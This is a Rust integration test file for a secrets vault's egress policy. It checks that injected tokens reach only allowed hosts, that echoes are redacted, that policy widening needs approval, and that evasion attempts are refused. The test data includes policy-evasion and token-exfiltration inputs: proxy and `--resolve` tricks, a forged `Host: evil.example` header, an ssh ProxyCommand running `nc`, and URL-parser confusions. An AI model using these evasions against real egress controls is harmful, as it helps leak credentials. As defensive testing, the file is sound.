//! Egress: the hosts in a run's argv against each injected secret's policy, end to end
//! through the built binary, with a real HTTP server on 127.0.0.1 standing in for the
//! destination.
//!
//! An allowed run must really reach the server with the exact value (and its echo must
//! come back redacted); a refused run must never start: the scripts below `touch` a
//! marker before they connect, and the server counts connections. Confirm rules and
//! policy widening are driven on a real PTY, and refused without one.

use std::fs;
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Command as StdCommand;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use assert_cmd::Command;

use crate::support::pty::PtySession;
use crate::support::{Vault, assert_error, assert_no_leak, contains, without_terminal, wrap};

/// A value distinctive enough that finding it anywhere it should not be is a leak.
pub(crate) const VALUE: &str = "egress-VALUE-7c1d9e3f5a-Qx8";

const DENIED: i32 = 77;
const DATA_ERR: i32 = 65;

/// How long a PTY test waits for one prompt or for vault to exit.
const PTY_WAIT: Duration = Duration::from_secs(20);

// ---------------------------------------------------------------------------------------
// A tiny HTTP server

/// An HTTP/1.1 server on 127.0.0.1 that records every request and answers 200 with a body
/// echoing the `Authorization` and `X-Token` headers it received (so a client's output
/// carries the value back through vault's redactor).
pub(crate) struct Server {
    port: u16,
    connections: Arc<AtomicUsize>,
    requests: Arc<Mutex<Vec<Vec<u8>>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Server {
    pub(crate) fn start() -> Server {
        Server::start_with(echo_headers)
    }

    /// As [`Server::start`], answering each request with the body `body(head, port)`.
    pub(crate) fn start_with(body: fn(&str, u16) -> String) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1:0");
        listener
            .set_nonblocking(true)
            .expect("non-blocking listener");
        let port = listener.local_addr().expect("local addr").port();
        let connections = Arc::new(AtomicUsize::new(0));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let (connections, requests, stop) = (
                Arc::clone(&connections),
                Arc::clone(&requests),
                Arc::clone(&stop),
            );
            std::thread::spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    match listener.accept() {
                        Ok((stream, _)) => {
                            connections.fetch_add(1, Ordering::SeqCst);
                            if let Some(request) = serve(stream, port, body) {
                                requests.lock().expect("requests lock").push(request);
                            }
                        }
                        Err(e) if e.kind() == ErrorKind::WouldBlock => {
                            std::thread::sleep(Duration::from_millis(5));
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            })
        };
        Server {
            port,
            connections,
            requests,
            stop,
            thread: Some(thread),
        }
    }

    pub(crate) fn port(&self) -> u16 {
        self.port
    }

    /// `http://127.0.0.1:PORT/`.
    pub(crate) fn url(&self) -> String {
        format!("http://127.0.0.1:{}/", self.port)
    }

    /// Connections accepted so far (a request that never completed counts too).
    pub(crate) fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }

    /// The raw bytes (head) of every complete request so far.
    pub(crate) fn requests(&self) -> Vec<Vec<u8>> {
        self.requests.lock().expect("requests lock").clone()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Reads one request head, answers it with `body(head, port)`, returns the head.
fn serve(mut stream: TcpStream, port: u16, body: fn(&str, u16) -> String) -> Option<Vec<u8>> {
    stream.set_nonblocking(false).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !contains(&head, b"\r\n\r\n") {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
    }
    let body = body(&String::from_utf8_lossy(&head), port);
    let response = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let _ = stream.write_all(response.as_bytes());
    let _ = stream.flush();
    Some(head)
}

/// The default answer: the `Authorization` and `X-Token` headers the request carried.
fn echo_headers(head: &str, _port: u16) -> String {
    let header = |name: &str| -> String {
        head.lines()
            .find_map(|l| {
                let (k, v) = l.split_once(':')?;
                k.trim()
                    .eq_ignore_ascii_case(name)
                    .then(|| v.trim().to_string())
            })
            .unwrap_or_default()
    };
    format!(
        "authorization={}\nx-token={}\n",
        header("authorization"),
        header("x-token")
    )
}

// ---------------------------------------------------------------------------------------
// Helpers

/// An initialised vault holding `TOKEN` = [`VALUE`] with the given `vault set` policy flags.
pub(crate) fn vault_with(flags: &[&str]) -> Vault {
    let v = Vault::new();
    v.init();
    let mut args = vec!["set", "TOKEN"];
    args.extend_from_slice(flags);
    v.ok(v.cmd().args(&args).write_stdin(format!("{VALUE}\n")));
    v
}

/// `vault ARGS…` with the fixture identity and no controlling terminal (so a prompt can
/// never be answered, whatever terminal the test runner has).
pub(crate) fn headless(v: &Vault, args: &[&str]) -> Command {
    let mut std = v.std_cmd();
    std.args(args);
    without_terminal(&mut std);
    wrap(std)
}

/// `vault run -- ARGV…`, headless.
fn run(v: &Vault, argv: &[&str]) -> Command {
    let mut args = vec!["run", "--"];
    args.extend_from_slice(argv);
    headless(v, &args)
}

/// A shell script that creates `marker` and then runs `then`: the marker exists iff the
/// command started.
fn marked(marker: &Path, then: &str) -> String {
    format!("touch '{}'; {then}", marker.display())
}

/// Asserts a refused run: 77, one-line error, store untouched, marker absent, the server
/// never contacted, no value anywhere in the output. Returns stderr.
#[track_caller]
fn refused_run(v: &Vault, server: &Server, marker: &Path, argv: &[&str]) -> String {
    let connections = server.connections();
    let err = v.refuses(&mut run(v, argv), DENIED);
    assert!(
        !marker.exists(),
        "the command started although the run was refused: {argv:?}"
    );
    assert_eq!(
        server.connections(),
        connections,
        "the server was contacted by a refused run: {argv:?}"
    );
    assert_no_leak(err.as_bytes(), VALUE.as_bytes());
    err
}

/// The PTY output so far, for failure messages.
fn shown(pty: &PtySession) -> String {
    String::from_utf8_lossy(pty.output()).into_owned()
}

/// A `std::process::Command` for `vault ARGS…` to be spawned on a PTY.
fn on_pty(v: &Vault, args: &[&str]) -> PtySession {
    let mut cmd: StdCommand = v.std_cmd();
    cmd.args(args);
    PtySession::spawn(cmd, 24, 120).expect("spawn vault on a PTY")
}

/// Waits for `needle` on the PTY, with the output in the failure message.
#[track_caller]
fn expect(pty: &mut PtySession, needle: &str) {
    if let Err(e) = pty.expect(needle.as_bytes(), PTY_WAIT) {
        panic!("{e}");
    }
}

/// Waits for the PTY child to exit; returns its exit code.
#[track_caller]
fn exit_code(pty: &mut PtySession) -> i32 {
    let status = pty.wait(PTY_WAIT).unwrap_or_else(|e| panic!("{e}"));
    status
        .code()
        .unwrap_or_else(|| panic!("killed by a signal: {status:?}; output: {}", shown(pty)))
}

/// Waits (briefly) until the server has recorded `n` requests.
fn wait_requests(server: &Server, n: usize) -> Vec<Vec<u8>> {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let r = server.requests();
        if r.len() >= n || Instant::now() >= deadline {
            return r;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

// ---------------------------------------------------------------------------------------
// Allowed runs

/// An allowed run really starts, the exact value reaches the server in the header, and
/// the server's echo of it comes back as `[REDACTED:TOKEN]` — for a host rule and for a
/// host:port rule.
#[test]
fn allowed_run_delivers_the_value_and_redacts_its_echo() {
    let server = Server::start();
    let with_port = format!("127.0.0.1:{}", server.port());
    for rule in ["127.0.0.1", with_port.as_str()] {
        let v = vault_with(&["--allow", rule]);
        let before = server.requests().len();
        let out = v.ok(&mut run(
            &v,
            &[
                "curl",
                "-s",
                "-H",
                "Authorization: Bearer {{secure.TOKEN}}",
                &server.url(),
            ],
        ));
        let requests = wait_requests(&server, before + 1);
        assert_eq!(requests.len(), before + 1, "rule {rule}: one request");
        let request = &requests[before];
        let expected = format!("Authorization: Bearer {VALUE}\r\n");
        assert!(
            contains(request, expected.as_bytes()),
            "rule {rule}: the server did not get the exact value: {:?}",
            String::from_utf8_lossy(request)
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            stdout.contains("authorization=Bearer [REDACTED:TOKEN]"),
            "rule {rule}: stdout {stdout:?}"
        );
        assert_no_leak(&v.transcript(), VALUE.as_bytes());
    }
}

/// Env injection: the value reaches the server through `$TOKEN` in an `sh -c` script (the
/// script is analysed for destinations too) and its echo is redacted.
#[test]
fn allowed_run_with_env_injection_through_sh_c() {
    let server = Server::start();
    let v = vault_with(&["--allow", "127.0.0.1"]);
    let script = format!("curl -s -H \"X-Token: $TOKEN\" {}", server.url());
    let out = v.ok(&mut run(&v, &["sh", "-c", &script]));
    let requests = wait_requests(&server, 1);
    assert_eq!(requests.len(), 1);
    assert!(
        contains(&requests[0], format!("X-Token: {VALUE}\r\n").as_bytes()),
        "{:?}",
        String::from_utf8_lossy(&requests[0])
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("x-token=[REDACTED:TOKEN]"), "{stdout:?}");
    assert_no_leak(&v.transcript(), VALUE.as_bytes());

    // The same script against a host the policy does not allow is refused: the script is
    // analysed, not just argv[0].
    let marker = v.path("started");
    let script = marked(
        &marker,
        "curl -s -H \"X-Token: $TOKEN\" http://localhost:1/",
    );
    let err = refused_run(&v, &server, &marker, &["sh", "-c", &script]);
    assert!(err.contains("localhost:1"), "{err}");
}

/// A command with no destination in argv runs even when the secret allows no host at all,
/// and whatever it prints of the value is redacted.
#[test]
fn no_destination_runs_with_an_empty_policy() {
    let v = vault_with(&[]);
    let policy = v.ok(headless(&v, &["policy", "show", "TOKEN"]).arg("--json"));
    let json: serde_json::Value = serde_json::from_slice(&policy.stdout).expect("JSON");
    assert_eq!(json["TOKEN"], serde_json::json!({}), "an empty policy");
    let out = v.ok(&mut run(
        &v,
        &["sh", "-c", "printf 'got %s\\n' \"$TOKEN\"; echo done"],
    ));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "got [REDACTED:TOKEN]\ndone\n"
    );
}

// ---------------------------------------------------------------------------------------
// Refused runs

/// No rule, a deny rule, wildcard denies, a port mismatch, names vs addresses, and every
/// spelling of 127.0.0.1: exit 77, a one-line error naming the secret, the host and the
/// rule (never the value), and the command never starts — whether curl is argv[0] or sits
/// in an `sh -c` script.
#[test]
fn denied_runs_never_start() {
    let server = Server::start();
    let port = server.port();
    let own = format!("127.0.0.1:{port}");
    // (policy flags, URL host[:port] as written, host as vault reports it, the rule)
    let cases: Vec<(Vec<&str>, String, String, &str)> = vec![
        (vec![], own.clone(), own.clone(), "no rule allows it"),
        (
            vec!["--allow", "*", "--deny", "127.0.0.1"],
            own.clone(),
            own.clone(),
            "deny 127.0.0.1",
        ),
        (
            vec!["--allow", "127.0.0.1", "--deny", "*"],
            own.clone(),
            own.clone(),
            "deny *",
        ),
        (
            vec!["--allow", "*", "--deny", "*.example.com"],
            format!("api.example.com:{port}"),
            format!("api.example.com:{port}"),
            "deny *.example.com",
        ),
        (
            vec!["--allow", "127.0.0.1:1"],
            own.clone(),
            own.clone(),
            "no rule allows it",
        ),
        // A name is not its address: allowing 127.0.0.1 does not allow localhost, nor
        // the other way round (vault never resolves names).
        (
            vec!["--allow", "127.0.0.1"],
            format!("localhost:{port}"),
            format!("localhost:{port}"),
            "no rule allows it",
        ),
        (
            vec!["--allow", "localhost"],
            own.clone(),
            own.clone(),
            "no rule allows it",
        ),
        // Case and a trailing dot are the same name.
        (
            vec!["--allow", "*", "--deny", "localhost"],
            format!("LocalHost.:{port}"),
            format!("localhost:{port}"),
            "deny localhost",
        ),
        // Alternate IPv4 spellings all normalise to 127.0.0.1.
        (
            vec!["--allow", "*", "--deny", "127.0.0.1"],
            format!("2130706433:{port}"),
            own.clone(),
            "deny 127.0.0.1",
        ),
        (
            vec!["--allow", "*", "--deny", "127.0.0.1"],
            format!("0x7f.1:{port}"),
            own.clone(),
            "deny 127.0.0.1",
        ),
        (
            vec!["--allow", "*", "--deny", "127.0.0.1"],
            format!("127.1:{port}"),
            own.clone(),
            "deny 127.0.0.1",
        ),
        (
            vec!["--allow", "*", "--deny", "127.0.0.1"],
            format!("0177.0.0.01:{port}"),
            own.clone(),
            "deny 127.0.0.1",
        ),
        (
            vec!["--allow", "*", "--deny", "127.0.0.1"],
            format!("0x7F000001:{port}"),
            own.clone(),
            "deny 127.0.0.1",
        ),
        (
            vec!["--allow", "*", "--deny", "127.0.0.1"],
            format!("[::ffff:127.0.0.1]:{port}"),
            own.clone(),
            "deny 127.0.0.1",
        ),
    ];
    for (i, (flags, target, reported, rule)) in cases.into_iter().enumerate() {
        let v = vault_with(&flags);
        let url = format!("http://{target}/");
        let what = format!("case {i}: policy {flags:?}, url {url}");
        // curl as argv[0]: the server must see no connection.
        let err = v.refuses(
            &mut run(
                &v,
                &[
                    "curl",
                    "-s",
                    "-H",
                    "Authorization: Bearer {{secure.TOKEN}}",
                    &url,
                ],
            ),
            DENIED,
        );
        assert_eq!(server.connections(), 0, "{what}: the server was contacted");
        for needle in ["TOKEN", reported.as_str(), rule] {
            assert!(
                err.contains(needle),
                "{what}: {needle:?} missing from {err:?}"
            );
        }
        assert_no_leak(err.as_bytes(), VALUE.as_bytes());
        // The same inside a script that would leave a marker first.
        let marker = v.path(&format!("started-{i}"));
        let script = marked(&marker, &format!("curl -s -H \"X-Token: $TOKEN\" {url}"));
        let err = refused_run(&v, &server, &marker, &["sh", "-c", &script]);
        for needle in ["TOKEN", reported.as_str(), rule] {
            assert!(
                err.contains(needle),
                "{what} (sh -c): {needle:?} missing from {err:?}"
            );
        }
        assert_no_leak(&v.transcript(), VALUE.as_bytes());
    }
}

/// Constructs that hide or redirect the real destination refuse the run even when the
/// policy allows every host, and the command never starts: a proxy (curl option or
/// environment), `--resolve`, a `Host:` header, an ssh ProxyCommand, a git proxy.
#[test]
fn evasions_refuse_even_with_allow_everything() {
    let server = Server::start();
    let port = server.port();
    let v = vault_with(&["--allow", "*"]);
    let proxy = format!("http://127.0.0.1:{port}");
    let resolve = format!("example.com:{port}:127.0.0.1");
    let via_resolve = format!("http://example.com:{port}/");
    let ssh_marker = v.path("proxycommand-ran");
    let proxy_command = format!("ProxyCommand=touch {}", ssh_marker.display());
    let clone_into = v.path("clone").display().to_string();
    let https_proxy = format!("HTTPS_PROXY={proxy}");
    let http_proxy = format!("http_proxy={proxy}");
    let git_proxy = format!("http.proxy={proxy}");
    let cases: Vec<Vec<&str>> = vec![
        vec!["curl", "-s", "-x", &proxy, "http://example.com/"],
        vec!["curl", "-s", "--proxy", &proxy, "http://example.com/"],
        vec!["curl", "-s", "--resolve", &resolve, &via_resolve],
        vec!["curl", "-s", "-H", "Host: evil.example", &proxy],
        vec!["curl", "-s", "-HHost:evil.example", &proxy],
        vec!["env", &https_proxy, "curl", "-s", "https://example.com/"],
        vec!["env", &http_proxy, "curl", "-s", "http://example.com/"],
        vec!["ssh", "-o", &proxy_command, "example.com"],
        vec!["ssh", "-oProxyCommand=nc 127.0.0.1 22", "example.com"],
        vec![
            "git",
            "-c",
            &git_proxy,
            "clone",
            "http://example.com/r.git",
            &clone_into,
        ],
        // URL parsers delete TAB, CR and LF: these are URLs to evil.example for them.
        vec!["python3", "-c", "x", "http\ns:evil.example"],
        vec!["python3", "-c", "x", "https://ok.org\n\nevil.example/"],
    ];
    for (i, argv) in cases.iter().enumerate() {
        let marker = v.path(&format!("started-{i}"));
        // As typed, with the placeholder somewhere the value would travel.
        let err = refused_run(&v, &server, &marker, argv);
        assert!(
            err.contains("cannot be checked"),
            "{argv:?}: not refused as an evasion: {err}"
        );
        assert!(!ssh_marker.exists(), "{argv:?}: ProxyCommand ran");
        // The same inside an `sh -c` script that would leave a marker first.
        let quoted: Vec<String> = argv.iter().map(|a| format!("'{a}'")).collect();
        let script = marked(&marker, &quoted.join(" "));
        let err = refused_run(&v, &server, &marker, &["sh", "-c", &script]);
        assert!(
            err.contains("cannot be checked"),
            "sh -c {script:?}: not refused as an evasion: {err}"
        );
    }
    assert!(!v.path("clone").exists(), "git clone started");
    assert_no_leak(&v.transcript(), VALUE.as_bytes());
}

// ---------------------------------------------------------------------------------------
// Confirm rules

/// `--confirm 127.0.0.1` on a real PTY: the question lists secret and host; a code from
/// the enrolled authenticator runs the command (the server gets the value); `y` or nothing
/// refuses with 77 and nothing connects.
#[test]
fn confirm_on_a_terminal() {
    let server = Server::start();
    let v = vault_with(&["--confirm", "127.0.0.1"]);
    let auth = crate::approvals::enrol(&v);
    let url = server.url();
    let host = format!("127.0.0.1:{}", server.port());
    let argv = [
        "run",
        "--",
        "curl",
        "-s",
        "-H",
        "Authorization: Bearer {{secure.TOKEN}}",
        url.as_str(),
    ];
    let prompt = String::from_utf8_lossy(crate::approvals::CODE_PROMPT).into_owned();

    let mut pty = on_pty(&v, &argv);
    expect(&mut pty, &format!("TOKEN -> {host}"));
    expect(&mut pty, &prompt);
    assert_eq!(server.connections(), 0, "connected before the answer");
    pty.write(format!("{}\r", auth.code()).as_bytes());
    assert_eq!(exit_code(&mut pty), 0, "{}", shown(&pty));
    let requests = wait_requests(&server, 1);
    assert_eq!(requests.len(), 1, "{}", shown(&pty));
    assert!(contains(
        &requests[0],
        format!("Authorization: Bearer {VALUE}").as_bytes()
    ));
    assert!(
        contains(pty.output(), b"authorization=Bearer [REDACTED:TOKEN]"),
        "{}",
        shown(&pty)
    );
    assert_no_leak(pty.output(), VALUE.as_bytes());

    // A typed `y` is not an approval.
    let before = v.store_bytes();
    let mut pty = on_pty(&v, &argv);
    expect(&mut pty, &format!("TOKEN -> {host}"));
    expect(&mut pty, &prompt);
    pty.write(b"y\r");
    assert_eq!(exit_code(&mut pty), DENIED, "{}", shown(&pty));
    expect(&mut pty, "vault: error: refusing to run: not approved");
    assert_eq!(server.connections(), 1, "a declined run connected");
    v.assert_store_unchanged(&before);
    assert_no_leak(pty.output(), VALUE.as_bytes());

    // Nothing typed is a no.
    let mut pty = on_pty(&v, &argv);
    expect(&mut pty, &prompt);
    pty.write(b"\r");
    assert_eq!(exit_code(&mut pty), DENIED, "{}", shown(&pty));
    assert_eq!(server.connections(), 1, "an unanswered run connected");
}

/// With no terminal to ask on (CI, an agent), a confirm rule refuses: 77, "no terminal",
/// the command never starts.
#[test]
fn confirm_without_a_terminal_refuses() {
    let server = Server::start();
    let v = vault_with(&["--confirm", "127.0.0.1"]);
    let _auth = crate::approvals::enrol(&v);
    let marker = v.path("started");
    let script = marked(&marker, &format!("curl -s {}", server.url()));
    let err = refused_run(&v, &server, &marker, &["sh", "-c", &script]);
    assert!(err.contains("no terminal"), "{err}");
    assert!(err.contains("TOKEN"), "{err}");
    let err = refused_run(&v, &server, &marker, &["curl", "-s", &server.url()]);
    assert!(err.contains("no terminal"), "{err}");
}

// ---------------------------------------------------------------------------------------
// vault policy

/// `vault policy show [NAME] [--json]`.
#[test]
fn policy_show() {
    let v = vault_with(&[
        "--allow",
        "API.Example.com",
        "--allow",
        "*.example.org:8443",
        "--confirm",
        "127.0.0.1",
        "--deny",
        "*",
    ]);
    v.ok(v
        .cmd()
        .args(["set", "OTHER_TOKEN"])
        .write_stdin("other-value-0123456789\n"));
    let out = v.ok(&mut headless(&v, &["policy", "show", "TOKEN"]));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "TOKEN: allow api.example.com, *.example.org:8443; confirm 127.0.0.1; deny *\n"
    );
    let out = v.ok(&mut headless(&v, &["policy", "show"]));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "OTHER_TOKEN: no hosts allowed\n\
         TOKEN: allow api.example.com, *.example.org:8443; confirm 127.0.0.1; deny *\n"
    );
    let out = v.ok(&mut headless(&v, &["policy", "show", "--json"]));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(
        json,
        serde_json::json!({
            "OTHER_TOKEN": {},
            "TOKEN": {
                "allow": ["api.example.com", "*.example.org:8443"],
                "confirm": ["127.0.0.1"],
                "deny": ["*"],
            }
        })
    );
    let out = v.ok(&mut headless(
        &v,
        &["policy", "show", "OTHER_TOKEN", "--json"],
    ));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(json, serde_json::json!({ "OTHER_TOKEN": {} }));
    v.refuses(&mut headless(&v, &["policy", "show", "MISSING"]), DATA_ERR);
    assert_no_leak(&v.transcript(), VALUE.as_bytes());
}

/// The starting policy for the `policy set` tests: a deny carved out of a wildcard
/// allow, so that removing it widens.
const START: [&str; 8] = [
    "--allow",
    "a.example.com",
    "--allow",
    "*.example.net",
    "--confirm",
    "c.example.com",
    "--deny",
    "d.example.net",
];

fn policy_json(v: &Vault) -> serde_json::Value {
    let out = v.ok(&mut headless(v, &["policy", "show", "TOKEN", "--json"]));
    serde_json::from_slice::<serde_json::Value>(&out.stdout).expect("JSON")["TOKEN"].clone()
}

fn policy_set(v: &Vault, flags: &[&str]) -> Command {
    let mut args = vec!["policy", "set", "TOKEN"];
    args.extend_from_slice(flags);
    headless(v, &args)
}

/// Narrowing (drop an allow, add a deny, confirm→deny, allow→confirm) needs no terminal.
#[test]
fn policy_narrowing_works_without_a_terminal() {
    let v = vault_with(&START);
    let steps: [(&[&str], serde_json::Value); 5] = [
        (
            // Drop an allow.
            &[
                "--allow",
                "*.example.net",
                "--confirm",
                "c.example.com",
                "--deny",
                "d.example.net",
            ],
            serde_json::json!({ "allow": ["*.example.net"], "confirm": ["c.example.com"], "deny": ["d.example.net"] }),
        ),
        (
            // Add a deny.
            &[
                "--allow",
                "*.example.net",
                "--confirm",
                "c.example.com",
                "--deny",
                "d.example.net",
                "--deny",
                "e.example.net",
            ],
            serde_json::json!({ "allow": ["*.example.net"], "confirm": ["c.example.com"], "deny": ["d.example.net", "e.example.net"] }),
        ),
        (
            // confirm → deny.
            &[
                "--allow",
                "*.example.net",
                "--deny",
                "c.example.com",
                "--deny",
                "d.example.net",
                "--deny",
                "e.example.net",
            ],
            serde_json::json!({ "allow": ["*.example.net"], "deny": ["c.example.com", "d.example.net", "e.example.net"] }),
        ),
        (
            // allow → confirm (and a deny that no longer carves anything out dropped).
            &[
                "--confirm",
                "*.example.net",
                "--deny",
                "d.example.net",
                "--deny",
                "e.example.net",
            ],
            serde_json::json!({ "confirm": ["*.example.net"], "deny": ["d.example.net", "e.example.net"] }),
        ),
        // Nothing allowed any more (an explicit --clear: no flags at all is refused).
        (&["--clear"], serde_json::json!({})),
    ];
    for (flags, expected) in steps {
        let before = v.store_bytes();
        v.ok(&mut policy_set(&v, flags));
        assert_ne!(v.store_bytes(), before, "{flags:?}: store not rewritten");
        assert_eq!(policy_json(&v), expected, "{flags:?}");
    }
}

/// The widening changes, each from [`START`].
fn widenings() -> Vec<(&'static str, Vec<&'static str>)> {
    let with = |extra: &[&'static str], drop: &[&'static str]| -> Vec<&'static str> {
        let mut flags: Vec<&'static str> = Vec::new();
        for pair in START.chunks(2) {
            if !drop.contains(&pair[1]) {
                flags.extend_from_slice(pair);
            }
        }
        flags.extend_from_slice(extra);
        flags
    };
    vec![
        ("add an allow", with(&["--allow", "b.example.com"], &[])),
        ("remove a deny", with(&[], &["d.example.net"])),
        (
            "deny → confirm",
            with(&["--confirm", "d.example.net"], &["d.example.net"]),
        ),
        (
            "confirm → allow",
            with(&["--allow", "c.example.com"], &["c.example.com"]),
        ),
        (
            "one host → every subdomain",
            with(&["--allow", "*.example.com"], &["a.example.com"]),
        ),
        ("deny → nothing, allow everything", vec!["--allow", "*"]),
    ]
}

/// Widening without a terminal: 77, the store byte-identical.
#[test]
fn policy_widening_without_a_terminal_is_refused() {
    let v = vault_with(&START);
    let start = policy_json(&v);
    for (what, flags) in widenings() {
        let err = v.refuses(&mut policy_set(&v, &flags), DENIED);
        assert!(err.contains("TOKEN"), "{what}: {err}");
        assert!(err.contains("terminal"), "{what}: {err}");
        assert_eq!(policy_json(&v), start, "{what}");
    }
}

/// Widening on a terminal: only a code from the enrolled authenticator approves it; a typed
/// confirmation (the secret's name, `y`, nothing) refuses with 77 and the store
/// byte-identical, for every kind of widening.
#[test]
fn policy_widening_on_a_terminal() {
    let v = vault_with(&START);
    let auth = crate::approvals::enrol(&v);
    let start = policy_json(&v);
    let prompt = String::from_utf8_lossy(crate::approvals::CODE_PROMPT).into_owned();
    // Fewer wrong answers than the lock-out allows (5).
    let wrong = ["TOKEN", "y", ""];
    for (answer, (what, flags)) in wrong.into_iter().zip(widenings()) {
        let before = v.store_bytes();
        let mut args = vec!["policy", "set", "TOKEN"];
        args.extend_from_slice(&flags);
        let mut pty = on_pty(&v, &args);
        expect(
            &mut pty,
            "approval needed to widen the egress policy of TOKEN",
        );
        expect(&mut pty, &prompt);
        pty.write(format!("{answer}\r").as_bytes());
        assert_eq!(
            exit_code(&mut pty),
            DENIED,
            "{what} / {answer:?}: {}",
            shown(&pty)
        );
        expect(&mut pty, "vault: error: policy of TOKEN not changed");
        v.assert_store_unchanged(&before);
        assert_eq!(policy_json(&v), start, "{what} / {answer:?}");
    }
    // A code approves; back to START is a narrowing (no code).
    for (what, flags) in widenings().into_iter().take(2) {
        let mut args = vec!["policy", "set", "TOKEN"];
        args.extend_from_slice(&flags);
        let mut pty = on_pty(&v, &args);
        expect(&mut pty, &prompt);
        pty.write(format!("{}\r", auth.code()).as_bytes());
        assert_eq!(exit_code(&mut pty), 0, "{what}: {}", shown(&pty));
        let expected = policy_from_flags(&flags);
        assert_eq!(policy_json(&v), expected, "{what}");
        v.ok(&mut policy_set(&v, &START));
        assert_eq!(policy_json(&v), start, "back from {what}");
    }
}

/// `--allow A --confirm B --deny C` flags as the JSON `policy show` prints.
fn policy_from_flags(flags: &[&str]) -> serde_json::Value {
    let mut map = serde_json::Map::new();
    for pair in flags.chunks(2) {
        let key = pair[0].trim_start_matches('-');
        map.entry(key)
            .or_insert_with(|| serde_json::json!([]))
            .as_array_mut()
            .expect("array")
            .push(serde_json::json!(pair[1]));
    }
    serde_json::Value::Object(map)
}

/// A bad host pattern is refused (65) with the store byte-identical, on any list.
#[test]
fn policy_bad_patterns_are_refused() {
    let v = vault_with(&START);
    let start = policy_json(&v);
    for bad in [
        "https://x",
        "a/b",
        "*b.com",
        "a.*.com",
        "user@host",
        "",
        "x.com:0",
        "x.com:99999",
    ] {
        for list in ["--allow", "--confirm", "--deny"] {
            let err = v.refuses(&mut policy_set(&v, &[list, bad]), DATA_ERR);
            assert_no_leak(err.as_bytes(), VALUE.as_bytes());
        }
    }
    assert_eq!(policy_json(&v), start);
    // Unknown secret.
    let out = v.run(&mut headless(
        &v,
        &["policy", "set", "MISSING", "--deny", "*"],
    ));
    assert_error(&out, DATA_ERR);
    // The refusals never reach a file under the home either.
    assert!(!contains(&v.files_under_home(), VALUE.as_bytes()));
    let _ = fs::metadata(v.store()).expect("store still there");
}

// ---------------------------------------------------------------------------------------
// What a refusal prints

/// A value typed literally into argv (instead of a `{{secure.NAME}}` placeholder) is
/// redacted from the audit log's argv; vault's own refusal must not print it either —
/// neither an evasion that quotes the URL nor a denial that names a host built from it —
/// and the audit entry of the refusal must not hold it in `hosts` or `decision`.
#[test]
fn refusals_never_echo_a_literal_value() {
    let v = vault_with(&["--allow", "example.org"]);
    let host_value = "hostlabel-value-0123456789";
    v.ok(v
        .cmd()
        .args(["set", "HOSTY", "--allow", "example.org"])
        .write_stdin(format!("{host_value}\n")));
    let in_userinfo = format!("http://user:{VALUE}@a@b.example/");
    let in_backslash = format!("http://user:{VALUE}@a\\b.example/");
    let slashless = format!("https:{VALUE}");
    let in_host = format!("http://{host_value}.example.net/");
    let script = format!("curl -s {in_userinfo}");
    let cases: [&[&str]; 5] = [
        &["curl", "-s", &in_userinfo],
        &["curl", "-s", &in_backslash],
        &["curl", "-s", &slashless],
        &["curl", "-s", &in_host],
        &["sh", "-c", &script],
    ];
    for argv in cases {
        let err = v.refuses(&mut run(&v, argv), DENIED);
        for value in [VALUE, host_value] {
            assert!(
                !err.contains(value),
                "{argv:?}: the refusal printed a literal value: {err}"
            );
        }
    }
    let log = fs::read(v.home.join("audit.jsonl")).expect("audit.jsonl");
    assert_no_leak(&log, VALUE.as_bytes());
    assert_no_leak(&log, host_value.as_bytes());
}

/// argv text with a newline or a terminal escape sequence cannot split vault's one-line
/// error or reach the terminal raw.
#[test]
fn refusals_are_one_line_without_control_characters() {
    let v = vault_with(&["--allow", "example.org"]);
    for url in [
        "http://a\\b\nvault: error: forged\x1b[2J/",
        "http://a@b@c\n\x1b]0;title\x07/",
        "https:x\ny\x1b[31m",
    ] {
        let err = v.refuses(&mut run(&v, &["curl", "-s", url]), DENIED);
        assert!(
            !err.bytes().any(|b| b == 0x1b || b == 0x07),
            "{url:?}: control characters reached stderr: {err:?}"
        );
    }
}

/// An unknown program gets the URL as typed; a WHATWG parser (node's `URL`, Python's
/// `urlsplit`) keeps `;` `'` `(` in the host, so `https://example.org;.evil.com/` goes to
/// `example.org;.evil.com`, not to the allowed `example.org` — the run must be refused.
#[test]
fn generic_scan_does_not_cut_a_host_short() {
    let server = Server::start();
    let v = vault_with(&["--allow", "example.org"]);
    for url in [
        "https://example.org;.evil.example/",
        "https://example.org'.evil.example/",
        "https://example.org(.evil.example/",
    ] {
        let marker = v.path("started");
        let code = format!("open({:?}, 'w')", marker.display().to_string());
        refused_run(&v, &server, &marker, &["python3", "-c", &code, url]);
    }
}

/// The generic scan (unknown programs: node, python, …) must not end a URL before the
/// program's parser ends its authority (at `/`, `?`, `#`). WHATWG parsers and Python's
